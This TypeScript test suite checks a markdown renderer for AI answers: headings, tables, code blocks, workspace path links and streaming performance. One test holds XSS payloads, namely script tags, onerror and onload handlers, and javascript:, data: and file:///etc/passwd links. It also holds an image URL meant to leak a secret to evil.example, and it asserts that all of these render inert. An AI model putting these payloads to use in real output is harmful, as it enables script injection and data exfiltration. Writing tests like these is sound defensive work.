import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AnswerRenderer } from '../logic/markdownStream';
import { fenceLanguage } from '../logic/markdown';

const files = new Set(['src/review.go', 'README.md', 'cmd/agent-lsp/main.go']);
const answers = new AnswerRenderer((p) => (files.has(p.replace(/^\.\//, '')) ? p : undefined));
const html = (md: string): string => answers.html(md);

test('CommonMark constructs render as elements', () => {
  assert.match(html('### Plan'), /^<h3>Plan<\/h3>/);
  assert.match(html('# One\n## Two'), /<h1>One<\/h1>\n<h2>Two<\/h2>/);
  assert.match(html('**bold** and _em_'), /<p><strong>bold<\/strong> and <em>em<\/em><\/p>/);
  assert.match(html('- a\n- b'), /<ul>\n<li>a<\/li>\n<li>b<\/li>\n<\/ul>/);
  assert.match(html('1. a\n2. b'), /<ol>\n<li>a<\/li>\n<li>b<\/li>\n<\/ol>/);
  assert.match(html('> quoted'), /<blockquote>\n<p>quoted<\/p>\n<\/blockquote>/);
  assert.match(html('a\n\n---\n\nb'), /<hr>/);
  assert.match(html('use `x < y`'), /<code>x &lt; y<\/code>/);
  assert.match(html('    indented code'), /<div class="codeblock">.*<code class="hljs">indented code\n<\/code>/s);
});

test('GFM: tables, strikethrough, task lists and autolinks', () => {
  const table = html('| a | b |\n|---|:-:|\n| 1 | **2** |');
  assert.match(table, /<table>\n<thead>\n<tr>\n<th>a<\/th>\n<th style="text-align:center">b<\/th>/);
  assert.match(table, /<td>1<\/td>\n<td style="text-align:center"><strong>2<\/strong><\/td>/);
  assert.match(html('~~gone~~'), /<s>gone<\/s>/);
  const tasks = html('- [ ] todo\n- [x] done\n- plain');
  assert.match(tasks, /<li class="task-item"><input type="checkbox" class="task" disabled> todo<\/li>/);
  assert.match(tasks, /<li class="task-item"><input type="checkbox" class="task" disabled checked> done<\/li>/);
  assert.match(tasks, /<li>plain<\/li>/);
  assert.match(html('see https://go.dev/doc.'), /<a href="https:\/\/go.dev\/doc" class="external-link" title="https:\/\/go.dev\/doc">https:\/\/go.dev\/doc<\/a>\./);
  // A file name is not a host: no fuzzy autolink to http://README.md.
  assert.doesNotMatch(html('notes.txt and example.com'), /<a/);
});

test('code blocks: highlighted by language, the language shown, Copy / Insert / Apply', () => {
  const block = html('```go\nfunc main() { fmt.Println("<b>") }\n```');
  assert.match(block, /<span class="codeblock-lang">go<\/span>/);
  assert.match(block, /<code class="hljs language-go"><span class="hljs-function"><span class="hljs-keyword">func<\/span>/);
  assert.match(block, /<span class="hljs-string">&quot;&lt;b&gt;&quot;<\/span>/);
  for (const action of ['copy', 'insert', 'apply']) assert.match(block, new RegExp(`<button type="button" class="code-action" data-code-action="${action}"`));
  // An unknown language is shown and escaped, not guessed.
  const unknown = html('```klingon\n<qapla>\n```');
  assert.match(unknown, /<span class="codeblock-lang">klingon<\/span>.*<code class="hljs language-klingon">&lt;qapla&gt;\n<\/code>/s);
  assert.match(html('```\nplain\n```'), /<span class="codeblock-lang">text<\/span>.*<code class="hljs">plain/s);
  assert.equal(fenceLanguage('java title="x"'), 'java');
  assert.equal(fenceLanguage('"><script>'), '');
});

test('the model cannot inject markup or scripts: raw HTML is text, dangerous links are inert', () => {
  const out = html([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'inline <svg onload=alert(1)> and <a href="javascript:alert(1)">x</a>',
    '[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) [enc](java&#x09;script:alert(1)) [vb](vbscript:msgbox)',
    '[data](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd) [up](../../etc/passwd)',
    '<https://ok.example/?q="x">',
    '![pixel](https://evil.example/leak?d=secret) ![local](data:image/png;base64,AAAA)',
    '```"><script>alert(1)</script>\ncode\n```',
  ].join('\n\n'));
  assert.doesNotMatch(out, /<(?:script|img|svg|iframe|object|embed|style|link|meta)\b/i);
  assert.doesNotMatch(out, /<[^>]*\son\w+=/i, 'no event handler attribute in any tag');
  assert.doesNotMatch(out, /href="(?:javascript|vbscript|data|file):/i);
  assert.doesNotMatch(out, /href="[^"#h]/, 'only http(s) and # hrefs');
  assert.match(out, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
  assert.match(out, /\[js\]\(javascript:alert\(1\)\)/);
  assert.match(out, /<span class="inert-link">up<\/span>/);
  assert.match(out, /<a class="external-link" href="https:\/\/evil.example\/leak\?d=secret"[^>]*>🖼 pixel<\/a>/);
  assert.match(out, /!\[local\]\(data:image\/png;base64,AAAA\)/);
  assert.match(out, /href="https:\/\/ok.example\/\?q=%22x%22"/);
});

test('workspace paths become links to the file at the line; other words stay text', () => {
  const out = html('Edit src/review.go:12 and `cmd/agent-lsp/main.go:3:7`, see README.md. Not src/missing.go or e.g. or 1.5.');
  assert.match(out, /<a class="path-link" href="#" data-path="src\/review.go" data-line="12" title="Open src\/review.go:12">src\/review.go:12<\/a>/);
  assert.match(out, /<a class="path-link" href="#" data-path="cmd\/agent-lsp\/main.go" data-line="3"[^>]*><code>cmd\/agent-lsp\/main.go:3:7<\/code><\/a>/);
  assert.match(out, /<a class="path-link" href="#" data-path="README.md" title="Open README.md">README.md<\/a>\./);
  assert.match(out, /Not src\/missing.go or e.g. or 1.5.<\/p>/);
  assert.match(html('[the server](src/review.go#L40)'), /<a class="path-link" href="#" data-path="src\/review.go" data-line="40"[^>]*>the server<\/a>/);
  assert.match(html('[rel](./src/review.go)'), /data-path=".\/src\/review.go"/);
  // A path inside a web link or a code block is left alone.
  assert.doesNotMatch(html('https://x.example/src/review.go'), /path-link/);
  assert.doesNotMatch(html('```\nsrc/review.go:1\n```'), /path-link/);
});

/** A 200 KB answer of the usual mix: headings, prose, lists, tables and Go blocks. */
function longAnswer(size: number): string {
  let s = '';
  for (let i = 0; s.length < size; i++) {
    s += `## Section ${i}\n\nSome **bold** text with \`code\` and a [link](https://x.example/${i}).\nMore words in the same paragraph ${i}.\n\n` +
      `- item one\n- item two with *em*\n\n| a | b |\n|---|---|\n| ${i} | x |\n\n> a quote\n\n\`\`\`go\nfunc f${i}() int {\n\treturn ${i} // comment\n}\n\`\`\`\n\n`;
  }
  return s.slice(0, size);
}

test('a streamed answer renders as the whole text would, parsing each character a bounded number of times', (t) => {
  const text = longAnswer(200_000);
  const deltas = 2000;
  const step = Math.ceil(text.length / deltas);
  const streamed = new AnswerRenderer();
  const entry = {};
  const cpu0 = process.cpuUsage();
  const t0 = process.hrtime.bigint();
  const parsed = (): number => (streamed as unknown as { streams: WeakMap<object, { parsedChars: number }> }).streams.get(entry)!.parsedChars;
  let r = streamed.stream(entry, '');
  for (let end = step; end < text.length + step; end += step) {
    r = streamed.stream(entry, text.slice(0, end));
    // Re-rendering everything per delta would parse ~200 MB; this parses the text about once.
    assert.ok(parsed() < 3 * text.length, `parsed ${parsed()} characters by character ${end} of a ${text.length}-character answer`);
  }
  const wallMs = Number(process.hrtime.bigint() - t0) / 1e6;
  const cpu = process.cpuUsage(cpu0);
  const whole = new AnswerRenderer();
  const w0 = process.cpuUsage();
  const once = whole.html(text);
  const wholeCpu = process.cpuUsage(w0);
  t.diagnostic(`200 KB in ${deltas} deltas: ${wallMs.toFixed(0)} ms wall, ${((cpu.user + cpu.system) / 1000).toFixed(0)} ms CPU; ` +
    `one render of the whole answer: ${((wholeCpu.user + wholeCpu.system) / 1000).toFixed(0)} ms CPU`);
  assert.equal(r.blocks.join('') + r.tail, once);
});

test('streaming keeps final blocks and starts over only when the text was rewritten', () => {
  const r = new AnswerRenderer();
  const e = {};
  let out = r.stream(e, '# Title\n\npara');
  assert.deepEqual(out.blocks, ['<h1>Title</h1>\n']);
  assert.equal(out.tail, '<p>para</p>\n');
  out = r.stream(e, '# Title\n\nparagraph\n\n```go\nx :=');
  assert.deepEqual(out.blocks, ['<h1>Title</h1>\n', '<p>paragraph</p>\n']);
  assert.match(out.tail, /language-go/);
  assert.equal(out.restarted, false);
  // A setext underline turns the tail's paragraph into a heading: the tail is re-parsed whole.
  out = r.stream({}, 'a\n\nb\n');
  const e2 = {};
  r.stream(e2, 'a\n\nb\n');
  assert.match(r.stream(e2, 'a\n\nb\n---').tail, /<h2>b<\/h2>/);
  out = r.stream(e, 'Something else\n');
  assert.equal(out.restarted, true);
  assert.deepEqual(out.blocks, []);
  assert.equal(out.tail, '<p>Something else</p>\n');
});
